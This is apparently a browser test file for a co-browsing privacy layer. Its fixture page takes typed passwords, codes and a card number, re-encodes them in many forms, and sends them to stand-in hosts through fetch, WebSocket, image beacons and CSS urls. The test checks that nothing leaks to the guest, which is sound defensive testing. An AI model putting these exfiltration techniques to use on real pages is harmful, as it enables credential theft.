// tests only (Node, Chromium).
// Secrets of several kinds, in forms that pages, frameworks and servers make of a value: what stands there leaves in none of them.
import * as assert from 'uvu/assert';
import { suite } from '../harness.ts';
import { overhear } from './privacy-wire.ts';
import type { Pages } from './town.ts';

const test = suite('forms of secrets', { limit: 170_000 });

/** Field to what is entered there. */
const SECRETS = {
	mixed: 'Rk5&Tw8"Lx2jBp',
	word: 'plumtreehat',
	umlauts: 'Grüße-Öl#7äñ',
	code: '073914',
	boxes: '582046',
	card: '4539148803436467',
} as const;

/** What a page makes of a value; the text as it would stand on the wire, to be looked for. */
const FORMS = `
const b64 = (v) => btoa(unescape(encodeURIComponent(v)));
const chars = (v) => [...v];
window.FORMS = {
 list: (v) => chars(v).join(),
 listSpaced: (v) => chars(v).join(', '),
 listJson: (v) => JSON.stringify(chars(v)),
 colons: (v) => chars(v).join(':'),
 pipes: (v) => chars(v).join('|'),
 groupsOfFour: (v) => v.match(/.{1,4}/gu).join(' '),
 groupsByComma: (v) => v.match(/.{1,3}/gu).join(','),
 twiceInUrl: (v) => encodeURIComponent(encodeURIComponent(v)),
 allInUrl: (v) => chars(v).map((s) => [...new TextEncoder().encode(s)].map((n) => '%' + n.toString(16).padStart(2, '0').toUpperCase()).join('')).join(''),
 oldEscape: (v) => escape(v),
 entities: (v) => chars(v).map((s) => '&#' + s.codePointAt(0) + ';').join(''),
 entitiesHex: (v) => chars(v).map((s) => '&#x' + s.codePointAt(0).toString(16) + ';').join(''),
 entitiesOdd: (v) => v.replace(/[^\\0-\\x7f]/g, (s) => '&#' + s.codePointAt(0) + ';'),
 jsonAscii: (v) => v.replace(/[^\\0-\\x7f]/g, (s) => '\\\\u' + s.charCodeAt(0).toString(16).padStart(4, '0')),
 hexColons: (v) => [...new TextEncoder().encode(v)].map((n) => n.toString(16).padStart(2, '0')).join(':'),
 hexEscapes: (v) => [...new TextEncoder().encode(v)].map((n) => '\\\\x' + n.toString(16).padStart(2, '0')).join(''),
 hexUpper: (v) => [...new TextEncoder().encode(v)].map((n) => n.toString(16).padStart(2, '0').toUpperCase()).join(' '),
 codes: (v) => chars(v).map((s) => s.codePointAt(0)).join(','),
 base64: b64,
 base64url: (v) => b64(v).replace(/[+]/g, '-').replace(/[/]/g, '_').replace(/=/g, ''),
 base64twice: (v) => b64(b64(v)),
 base64reversed: (v) => b64(chars(v).reverse().join('')),
 latin: (v) => unescape(encodeURIComponent(v)),
 upper: (v) => v.toUpperCase(),
 lower: (v) => v.toLowerCase(),
 swapped: (v) => chars(v).map((s) => s === s.toUpperCase() ? s.toLowerCase() : s.toUpperCase()).join(''),
 decomposed: (v) => v.normalize('NFD'),
 plain: (v) => v.normalize('NFD').replace(/[\\u0300-\\u036f]/g, ''),
 slug: (v) => v.normalize('NFD').replace(/[\\u0300-\\u036f]/g, '').toLowerCase().replace(/[^a-z0-9]+/g, '-'),
 fullWidth: (v) => chars(v).map((s) => s > ' ' && s <= '~' ? String.fromCharCode(s.charCodeAt(0) + 0xfee0) : s).join(''),
 number: (v) => /^\\d+$/.test(v) ? String(Number(v)) : '',
 numberInWords: (v) => /^\\d{1,15}$/.test(v) ? Number(v).toLocaleString('en') : '',
 numberInSwiss: (v) => /^\\d{1,15}$/.test(v) ? Number(v).toLocaleString('de-CH') : '',
 numberArabic: (v) => /^\\d{1,15}$/.test(v) ? Number(v).toLocaleString('ar-EG', { useGrouping: false }) : '',
 styleVariable: (v) => v,
 styleContent: (v) => v,
 jsonTwice: (v) => JSON.stringify(JSON.stringify({ v })),
};
`;

const PAGE = `<form onsubmit="return false"><input id=mixed type=password><input id=word type=password><input id=umlauts type=password>
<input id=code autocomplete=one-time-code inputmode=numeric><input id=card autocomplete=cc-number>
<span id=boxes>${'<input maxlength=1 inputmode=numeric aria-label="digit" size=1>'.repeat(6)}</span></form><input type=hidden id=hid><div id=places></div><canvas id=cv width=300 height=40></canvas><p id=done>-</p><p id=last></p>
<script>${FORMS}
const places = document.getElementById('places');
const put = (name, text) => { let p = document.getElementById('at-' + name); if (!p) { p = document.createElement('p'); p.id = 'at-' + name; places.append(p); } p.textContent = text; p.title = text; p.dataset.v = text; };
window.planted = {};
window.spreadAll = (field, v) => {
	for (const [name, form] of Object.entries(FORMS)) {
		const text = form(v);
		if (!text) continue;
		planted[field + ' ' + name] = text;
		if (name === 'styleVariable') places.style.setProperty('--typed', JSON.stringify(v));
		else if (name === 'styleContent') places.style.content = JSON.stringify(v);
		else put(field + '-' + name, text);
	}
	hid.value = v; hid.setAttribute('value', v);
	history.pushState({ v }, '', '/?state=1');
	localStorage.setItem('k-' + field, JSON.stringify({ deep: { v: v } })); sessionStorage.setItem('s', btoa(unescape(encodeURIComponent(v))));
	fetch('https://dead.example/?p=' + encodeURIComponent(v)).catch(() => {}); fetch('/fails?p=' + encodeURIComponent(v), { headers: { 'x-pass': encodeURIComponent(v) } }).catch(() => {});
	try { new WebSocket('wss://a.example/none?p=' + encodeURIComponent(v)); } catch {}
	new Image().src = 'https://dead.example/i?p=' + encodeURIComponent(v);
	const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = 'data:text/css,' + encodeURIComponent('body{background:url(https://leak.example/?p=' + encodeURIComponent(v) + ')}'); document.head.append(s);
};
const every = (el, act) => el.addEventListener('input', act);
for (const id of ['mixed', 'word', 'umlauts', 'code', 'card']) every(document.getElementById(id), (e) => { last.textContent = '•'.repeat(e.target.value.length - 1) + e.target.value.at(-1); });
const cells = [...boxes.children];
cells.forEach((el, i) => { every(el, () => { cells[i + 1]?.focus(); if (cells.every((c) => c.value)) spreadAll('boxes', cells.map((c) => c.value).join('')); }); });
</script>`;

const PAGES: Pages = {
	'/': PAGE,
	'/fails': (req) => req.socket.destroy(),
	'/popup':
		'<title>popup</title><p id=popped>popped</p><script>document.getElementById("popped").textContent += " " + decodeURIComponent(location.search) + " " + name</script>',
};

test('what is entered leaves in no form that pages make of it', async (t) => {
	const { host, guest, said: overheard } = await overhear(t, PAGES);
	await guest.sight.see({ css: '#done', text: '-' });
	const frame = await host.sight.frame();
	/** What the letter shown last was, at a guest's. */
	const shown: string[] = [];
	for (const [field, value] of Object.entries(SECRETS)) {
		if (field === 'boxes') await host.sight.click('#boxes input');
		else await host.sight.click(`#${field}`);
		for (const sign of value) {
			await host.page.keyboard.sendCharacter(sign);
			if (field === 'boxes') continue;
			shown.push(String(await (await guest.sight.frame()).evaluate('document.getElementById("last").textContent')));
		}
		if (field !== 'boxes') await frame.evaluate(`spreadAll(${JSON.stringify(field)}, ${JSON.stringify(value)})`);
	}
	await frame.evaluate(`window.open('/popup?p=' + encodeURIComponent(${JSON.stringify(SECRETS.mixed)}), ${JSON.stringify(SECRETS.word)})`);
	await frame.evaluate(`done.textContent = 'spread'`);
	await guest.sight.see((doc) => !!doc.body, 4000);
	await new Promise((done) => setTimeout(done, 4000));
	const planted = (await frame.evaluate('planted')) as Record<string, string>;
	const said = await overheard();
	assert.ok(said.host.includes('spread'));
	const leaks: string[] = [];
	for (const [where, bytes] of Object.entries(said)) {
		for (const [form, text] of [...Object.entries(planted), ...Object.entries(SECRETS)]) {
			for (const written of new Set([text, JSON.stringify(text).slice(1, -1)])) {
				const at = bytes.indexOf(written);
				if (at >= 0) leaks.push(`${where}, ${form}: ${JSON.stringify(bytes.subarray(Math.max(0, at - 60), at + 60).toString('utf8'))}`);
			}
		}
	}
	assert.equal(
		shown.filter((text) => !/^•*$/.test(text)),
		[],
		'the sign typed last, behind dots',
	);
	assert.ok(said.guest.includes('popped'), 'the window that was opened is a tab');
	assert.equal(leaks, []);
});

test.run();
